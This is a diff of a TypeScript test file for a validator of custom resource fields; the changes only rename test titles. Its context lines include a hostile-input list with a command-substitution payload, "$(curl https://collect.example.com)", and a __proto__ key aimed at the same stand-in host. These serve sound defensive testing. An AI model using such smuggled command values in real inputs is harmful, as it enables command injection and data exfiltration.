@@ -25,7 +25,7 @@ function faultsIn(spot: Spot, value: unknown): Fault[] {
 const casesOf = (faults: readonly Fault[]) => [...new Set(faults.map((fault) => fault.case))];
 const nameOf = ({ kind, at }: Spot) => `${kind.kind} ${at}`;
 
-test("each kind is there once and classified", (t) => {
+test("each kind is listed once and classified", (t) => {
   const names = CUSTOM_KINDS.map(({ group, kind }) => `${group}:${kind}`);
   t.is(new Set(names).size, names.length);
   t.deepEqual(Object.keys(customResources).sort(), names.sort());
@@ -36,7 +36,7 @@ test("each kind is there once and classified", (t) => {
   t.is(customKindOf({ apiVersion: "v1", kind: "Cluster" }), undefined);
 });
 
-test("at every level of every table, a field that it does not name is denied", (t) => {
+test("a field that a table does not name is denied at every level", (t) => {
   const blocks = SPOTS.filter(({ field }) => field.is === "block");
   t.true(blocks.length > 900);
   for (const spot of blocks) {
@@ -50,7 +50,7 @@ test("at every level of every table, a field that it does not name is denied", (
   }
 });
 
-test("a key named like a prototype is a key", (t) => {
+test("a key named like a prototype is an ordinary key", (t) => {
   for (const spot of SPOTS.filter(({ field }) => field.is === "block").slice(0, 50)) {
     const value = JSON.parse('{ "__proto__": { "url": "https://collect.example.com" } }');
     t.deepEqual(casesOf(faultsIn(spot, value)), ["unclassified"], nameOf(spot));
@@ -77,7 +77,7 @@ const HOSTILE = [
   "$(curl https://collect.example.com)",
 ];
 
-test("what leads or is registered, or has one form, takes nothing hostile and nothing unknown", (t) => {
+test("a destination, a registered name and a value of fixed form accept no hostile and no unknown value", (t) => {
   const strict = ["destination", "registered", "choice", "text"];
   for (const spot of SPOTS.filter(({ field }) => strict.includes(field.is))) {
     if (FREE.includes(lastOf(spot))) continue;
@@ -105,7 +105,7 @@ const FREE_TEXTS = [
   "streetAddresses,subPath,superUsers,tagging,tags,template,topicExcludeRegex,topicName,topicRegex,unhealthyInRange,usages,value",
 ].flatMap((line) => line.split(","));
 
-test("of the plain fields only the free texts take a URL, and each of them is pinned", (t) => {
+test("only free texts among the plain fields accept a URL, and each of them is listed", (t) => {
   const plain = SPOTS.filter(({ field }) => field.is === "inert");
   const taking = plain.filter((spot) => faultsIn(spot, HOSTILE[0]).length === 0);
   const unexplained = taking.filter(({ field }) => field.is === "inert" && field.why === undefined);
@@ -134,7 +134,7 @@ function lastOf({ at }: Spot): string {
   );
 }
 
-test("what a table leaves to another rule, that rule denies", (t) => {
+test("a value that a table leaves to another rule is denied by that rule", (t) => {
   const cluster = { identifier: "bamako/tax/apps", kubeconfig: UNKNOWN } as const;
   const context = { alliance, site: "bamako", rehearsal: false, today: TODAY };
   for (const spot of SPOTS) {
@@ -171,7 +171,7 @@ test("every field of a table exists", (t) => {
 });
 
 for (const { path, text } of pages()) {
-  test(`${path} says what the tables say (make generate writes it)`, (t) => {
+  test(`${path} has the tables (make generate writes it)`, (t) => {
     isGenerated(t, path, text);
   });
 }
